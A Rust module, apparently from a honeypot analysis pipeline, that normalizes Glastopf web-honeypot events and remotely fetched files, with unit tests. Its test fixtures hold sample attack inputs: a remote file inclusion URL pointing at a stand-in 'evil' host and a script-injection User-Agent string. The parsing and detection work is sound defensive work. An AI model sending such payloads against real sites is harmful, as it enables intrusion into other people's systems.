//! Glastopf (web honeypot): `glastopf.events` and `glastopf.files`.

use super::fields::{self as f};
use super::{NormalizeError, Result};
use apiary_model::bounded::{LONG, MEDIUM, SHORT};
use apiary_model::{HttpRequest, Normalized, RawEvent};
use serde_json::Value;

/// One HTTP request. Two payload generations exist:
/// - new: `{time, source: [ip, port], request_url, request_raw, pattern, filename, ...}`;
///   `request_raw` is parsed into method, path, lower-cased headers and body;
/// - old: `{time, source, request: {url, method, header: {..}, body, version}, pattern, ...}`.
///
/// → a session (`http`, destination port 80: glastopf does not report its port) with the
/// request, `pattern` (glastopf's attack classification) in `extra`, `filename` (the md5 of an
/// RFI-fetched file) in `hashes`; plus a dork from the requested path (see [`f::dork`]).
/// The timestamp is the payload's `time` (sensor-local, no zone, taken as UTC, as mnemosyne
/// did), clamped when it is in the future.
pub fn events(raw: &RawEvent, out: &mut Vec<Normalized>) -> Result<()> {
    let o = f::json_object(raw)?;
    let ts = f::time_field(&o, "time", raw.received_at)?;
    let mut s = f::new_session(raw, "glastopf", ts);
    let source = f::array_field(&o, "source")?;
    s.source_ip = Some(f::source_ip_value(
        source.first().filter(|v| !v.is_null()),
        "source",
    )?);
    s.source_port = match source.get(1) {
        Some(p) => f::port_value(p, "source")?,
        None => None,
    };
    s.destination_port = Some(80);
    s.protocol = Some("http".into());

    let (http, url) = match f::obj_field(&o, "request")? {
        Some(req) => {
            let mut http = HttpRequest {
                method: f::text(req, "method", SHORT)?,
                path: f::text(req, "url", MEDIUM)?,
                ..Default::default()
            };
            if let Some(h) = f::obj_field(req, "header")? {
                for (name, value) in h {
                    if let Some(v) = f::text_value(value, "header", MEDIUM)? {
                        f::push_header(&mut http, name, &v);
                    }
                }
            }
            http.body = f::text_nonempty(req, "body", LONG)?;
            let url = http.path.clone();
            (http, url)
        }
        None => {
            let http = match f::str_field(&o, "request_raw")? {
                Some(r) => f::parse_raw_http(r),
                None => HttpRequest::default(),
            };
            let url = f::text(&o, "request_url", MEDIUM)?.or_else(|| http.path.clone());
            (http, url)
        }
    };
    s.details.http = Some(http);
    if let Some(md5) = f::str_field(&o, "filename")?.and_then(f::hash_hex) {
        s.details.hashes.push(md5);
    }
    s.details.extra = f::extra(vec![(
        "pattern",
        f::text_nonempty(&o, "pattern", SHORT)?.map(Value::String),
    )]);
    f::push_session(out, s);
    if let Some(d) = url.as_deref().and_then(f::dork) {
        out.push(Normalized::Dork(d));
    }
    Ok(())
}

/// A file glastopf fetched (RFI): the payload is `"<name> <base64 content>"` (not JSON).
/// → a file record with hashes computed from the decoded content; the name is ignored.
pub fn files(raw: &RawEvent, out: &mut Vec<Normalized>) -> Result<()> {
    let text = String::from_utf8_lossy(&raw.payload);
    let (_name, b64) = text
        .trim()
        .split_once(' ')
        .ok_or(NormalizeError::BadPayload("expected \"<name> <base64>\""))?;
    let data = f::base64_decode(b64).ok_or(NormalizeError::BadPayload("invalid base64"))?;
    out.push(Normalized::File(f::file_record(data, None, None)));
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::super::testutil::*;
    use super::super::NormalizeError;
    use apiary_model::{Dork, HttpRequest, Normalized, Session, SessionDetails};
    use serde_json::json;

    #[test]
    fn new_format() {
        let out = run(
            "glastopf.events",
            r#"{"pattern": "rfi", "time": "2013-06-09 06:06:20", "filename": "755C4F9270DB48F51F601638D2C4B4B0", "source": ["1.2.3.4", 50781],
 "request_raw": "GET /index.php?page=http://evil/x.txt HTTP/1.1\r\nAccept-Encoding: identity\r\nHost: woopa.mil\r\nUser-Agent: <script>alert(1)</script>\r\n\r\nMuhaha",
 "request_url": "/index.php?page=http://evil/x.txt"}"#,
        );
        assert_eq!(
            out,
            vec![
                Normalized::Session(Box::new(Session {
                    timestamp: ts("2013-06-09T06:06:20Z"),
                    source_ip: ip("1.2.3.4"),
                    source_port: Some(50781),
                    destination_port: Some(80),
                    protocol: Some("http".into()),
                    honeypot: "glastopf".into(),
                    channel: "glastopf.events".into(),
                    details: SessionDetails {
                        http: Some(HttpRequest {
                            method: Some("GET".into()),
                            path: Some("/index.php?page=http://evil/x.txt".into()),
                            host: Some("woopa.mil".into()),
                            user_agent: Some("<script>alert(1)</script>".into()),
                            headers: vec![
                                ("accept-encoding".into(), "identity".into()),
                                ("host".into(), "woopa.mil".into()),
                                ("user-agent".into(), "<script>alert(1)</script>".into()),
                            ],
                            body: Some("Muhaha".into()),
                        }),
                        hashes: vec!["755c4f9270db48f51f601638d2c4b4b0".into()],
                        extra: Some(json!({"pattern": "rfi"})),
                        ..Default::default()
                    },
                    ..Default::default()
                })),
                Normalized::Dork(Dork {
                    content: "/index.php".into(),
                    kind: "inurl".into()
                }),
            ]
        );
    }

    #[test]
    fn old_format_and_noise_dork() {
        let out = run(
            "glastopf.events",
            r#"{"pattern": "unknown", "request": {"body": "", "parameters": ["a=b"], "url": "/robots.txt?a=b",
  "header": {"Accept": "*/*", "Host": "www.something.com", "User-Agent": "Baiduspider"}, "version": "HTTP/1.1", "method": "GET"},
 "filename": null, "source": ["1.2.3.4", 49111], "time": "2012-12-14 12:22:51"}"#,
        );
        assert_eq!(
            out,
            vec![Normalized::Session(Box::new(Session {
                timestamp: ts("2012-12-14T12:22:51Z"),
                source_ip: ip("1.2.3.4"),
                source_port: Some(49111),
                destination_port: Some(80),
                protocol: Some("http".into()),
                honeypot: "glastopf".into(),
                channel: "glastopf.events".into(),
                details: SessionDetails {
                    http: Some(HttpRequest {
                        method: Some("GET".into()),
                        path: Some("/robots.txt?a=b".into()),
                        host: Some("www.something.com".into()),
                        user_agent: Some("Baiduspider".into()),
                        // Input already sorted: same order with or without serde_json's preserve_order.
                        headers: vec![
                            ("accept".into(), "*/*".into()),
                            ("host".into(), "www.something.com".into()),
                            ("user-agent".into(), "Baiduspider".into()),
                        ],
                        body: None,
                    }),
                    extra: Some(json!({"pattern": "unknown"})),
                    ..Default::default()
                },
                ..Default::default()
            }))],
            "robots.txt is not a dork"
        );
    }

    #[test]
    fn future_time_clamped_and_bad_source() {
        let s = one_session(
            "glastopf.events",
            r#"{"time": "2099-01-01 00:00:00", "source": ["::ffff:10.0.0.9", 99999], "request_raw": "GET / HTTP/1.0"}"#,
        );
        assert_eq!(s.timestamp, received());
        assert_eq!(s.source_ip, ip("10.0.0.9"));
        assert!(s.internal);
        assert_eq!(s.source_port, None);
        assert_eq!(
            fail("glastopf.events", r#"{"source": []}"#),
            NormalizeError::MissingField("source")
        );
        assert!(matches!(
            fail("glastopf.events", r#"{"source": "1.2.3.4"}"#),
            NormalizeError::BadField {
                field: "source",
                ..
            }
        ));
        assert!(matches!(
            fail("glastopf.events", r#"{"source": ["1.2.3.4", "x"]}"#),
            NormalizeError::BadField {
                field: "source",
                ..
            }
        ));
        assert!(matches!(
            fail(
                "glastopf.events",
                r#"{"source": ["1.2.3.4", 1], "request_raw": 5}"#
            ),
            NormalizeError::BadField {
                field: "request_raw",
                ..
            }
        ));
    }

    #[test]
    fn invalid_utf8_request() {
        let mut p = br#"{"source": ["198.51.100.1", 1], "request_raw": "GET /a"#.to_vec();
        p.extend_from_slice(b"\xff\xfe");
        p.extend_from_slice(br#" HTTP/1.1", "request_url": "/a"}"#);
        let out = run("glastopf.events", p);
        let Normalized::Session(s) = &out[0] else {
            panic!()
        };
        assert_eq!(
            s.details.http.as_ref().unwrap().path.as_deref(),
            Some("/a\u{fffd}\u{fffd}")
        );
    }

    #[test]
    fn files() {
        // "GIF89a" + 2 bytes.
        let out = run(
            "glastopf.files",
            "755c4f9270db48f51f601638d2c4b4b0 R0lGODlhAT8=",
        );
        let Normalized::File(file) = &out[0] else {
            panic!()
        };
        assert_eq!(file.data.as_deref(), Some(&b"GIF89a\x01?"[..]));
        assert_eq!(file.content_guess.as_deref(), Some("GIF image data"));
        assert_eq!(file.size, 8);
        assert_eq!(
            fail("glastopf.files", "nospace"),
            NormalizeError::BadPayload("expected \"<name> <base64>\"")
        );
        assert_eq!(
            fail("glastopf.files", "x !!!notbase64"),
            NormalizeError::BadPayload("invalid base64")
        );
    }
}
